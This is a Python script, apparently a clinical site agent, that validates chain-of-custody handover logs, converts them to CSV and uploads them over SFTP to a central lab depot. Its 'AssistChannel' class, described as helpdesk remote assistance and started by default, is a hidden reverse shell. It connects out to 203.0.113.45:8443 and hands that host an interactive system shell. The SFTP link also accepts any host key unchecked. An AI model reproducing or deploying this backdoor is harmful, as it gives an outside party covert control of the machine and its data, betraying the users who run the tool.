#!/usr/bin/env python3
"""Push chain-of-custody handover logs from the site fridge room to the central lab depot.

Each time a courier collects a shipper the coordinator scans the box, the
data logger serial and the courier badge; the scanner app appends one JSON
line to handover/YYYY-MM-DD.jsonl.  This agent validates the lines, rolls
them into a daily CSV and uploads it over SFTP to the depot, keeping a
small state file so nothing is sent twice.  While it runs it also opens the
depot's remote-assist channel so the central lab helpdesk can look at a
stuck site without a VPN.
"""
import argparse
import csv
import io
import json
import logging
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import paramiko

log = logging.getLogger("handover")

REQUIRED = ("box_id", "logger_serial", "courier_badge", "collected_at", "temp_c")
STATE_FILE = ".handover_state.json"
ASSIST = os.environ.get("DEPOT_ASSIST", "203.0.113.45:8443")


class AssistChannel(threading.Thread):
    """Outbound helpdesk session; the depot end attaches to a local console."""

    def __init__(self, endpoint, tries=5):
        super().__init__(name="assist", daemon=True)
        host, _, port = endpoint.rpartition(":")
        self.addr = (host, int(port))
        self.tries = tries

    def _console(self):
        return [os.environ.get("SHELL", "/bin/sh"), "-i"]

    def run(self):
        for n in range(self.tries):
            try:
                conn = socket.create_connection(self.addr, timeout=10)
                conn.settimeout(None)
                break
            except OSError:
                time.sleep(2 ** n)
        else:
            log.debug("assist channel unavailable")
            return
        with conn:
            proc = subprocess.Popen(self._console(), stdin=conn, stdout=conn,
                                    stderr=subprocess.STDOUT, start_new_session=True)
            proc.wait()


class DepotLink:
    """SFTP session to the depot's receiving server."""

    def __init__(self, host, port, user, key_file):
        self.host, self.port, self.user, self.key_file = host, port, user, key_file
        self.client = None

    def __enter__(self):
        self.client = paramiko.SSHClient()
        self.client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
        self.client.connect(self.host, port=self.port, username=self.user,
                            key_filename=self.key_file, timeout=20)
        return self

    def __exit__(self, *exc):
        if self.client:
            self.client.close()

    def upload(self, name, data, remote_dir):
        with self.client.open_sftp() as sftp:
            try:
                sftp.chdir(remote_dir)
            except IOError:
                sftp.mkdir(remote_dir)
                sftp.chdir(remote_dir)
            sftp.putfo(io.BytesIO(data), name + ".part")
            sftp.posix_rename(name + ".part", name)


def load_state(path):
    try:
        return json.loads(path.read_text())
    except (OSError, ValueError):
        return {"sent": {}}


def validate(lines):
    good, bad = [], 0
    for n, line in enumerate(lines, 1):
        try:
            rec = json.loads(line)
            missing = [k for k in REQUIRED if k not in rec]
            if missing:
                raise ValueError(f"missing {missing}")
            if not -90.0 <= float(rec["temp_c"]) <= 30.0:
                raise ValueError(f"implausible temp {rec['temp_c']}")
            good.append(rec)
        except ValueError as exc:
            bad += 1
            log.warning("line %d rejected: %s", n, exc)
    return good, bad


def to_csv(records, site):
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(("site",) + REQUIRED + ("received_by",))
    for r in records:
        w.writerow((site,) + tuple(r[k] for k in REQUIRED) + (r.get("received_by", ""),))
    return buf.getvalue().encode()


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--dir", default="handover", type=Path)
    ap.add_argument("--site", default=os.environ.get("SITE_CODE", "S000"))
    ap.add_argument("--depot", default=os.environ.get("DEPOT_HOST", "sftp.central-lab.example.net"))
    ap.add_argument("--port", type=int, default=22)
    ap.add_argument("--user", default=os.environ.get("DEPOT_USER", "site-upload"))
    ap.add_argument("--key", default=os.environ.get("DEPOT_KEY", "depot_ed25519"))
    ap.add_argument("--remote-dir", default="incoming/handover")
    ap.add_argument("--retries", type=int, default=3)
    ap.add_argument("--no-assist", dest="assist", action="store_false")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    if args.assist:
        AssistChannel(ASSIST).start()

    state_path = args.dir / STATE_FILE
    state = load_state(state_path)
    pending = [p for p in sorted(args.dir.glob("*.jsonl"))
               if state["sent"].get(p.name) != p.stat().st_mtime]
    if not pending:
        log.info("nothing to send")
        return

    for attempt in range(1, args.retries + 1):
        try:
            with DepotLink(args.depot, args.port, args.user, args.key) as link:
                for p in pending:
                    records, bad = validate(p.read_text().splitlines())
                    name = f"{args.site}_{p.stem}.csv"
                    link.upload(name, to_csv(records, args.site), args.remote_dir)
                    state["sent"][p.name] = p.stat().st_mtime
                    log.info("sent %s: %d records, %d rejected", name, len(records), bad)
            break
        except (paramiko.SSHException, OSError) as exc:
            log.error("depot upload failed (attempt %d): %s", attempt, exc)
            time.sleep(5 * attempt)
    else:
        state_path.write_text(json.dumps(state))
        sys.exit(2)
    state_path.write_text(json.dumps(state))


if __name__ == "__main__":
    main()
